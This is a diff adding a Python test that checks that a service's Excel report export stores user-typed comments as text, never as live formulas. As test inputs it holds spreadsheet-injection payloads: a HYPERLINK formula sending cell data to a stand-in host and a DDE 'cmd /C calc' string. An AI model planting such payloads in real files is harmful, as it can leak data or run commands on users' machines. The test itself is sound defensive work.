@@ -299,3 +299,27 @@ def test_downloads_are_refused_when_they_should_be(
         refused = download(running, bad)
         assert refused.status_code == 400, bad
         assert refused.json()["detail"]
+
+
+def test_text_that_looks_like_a_formula_stays_text(running: Running) -> None:
+    """Commentary and remarks are typed by users: "=…", "+…", "-…" or "@…" must reach the
+    workbook as text, never as a formula Excel would run when the file is opened."""
+    code, _ = streets(running)[-1]
+    report = generate(running, code, "2017-06")
+    typed = {
+        "progress": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
+        "problems": "+1+cmd|' /C calc'!A0",
+        "nextPlan": "-2+3",
+        "remarks": [{"communityCode": report["communities"][0]["code"], "remark": "@SUM(1,2)"}],
+    }
+    changed = mutate(running, COMMENT, {"id": report["id"], "input": typed}, street_user(code))
+    assert changed["errors"] == []
+    response = download(running, report["downloadPath"])
+    book = _workbook(response)
+    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
+    assert typed["progress"] in texts and "@SUM(1,2)" in texts
+    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets
+        for name in sheets:
+            assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
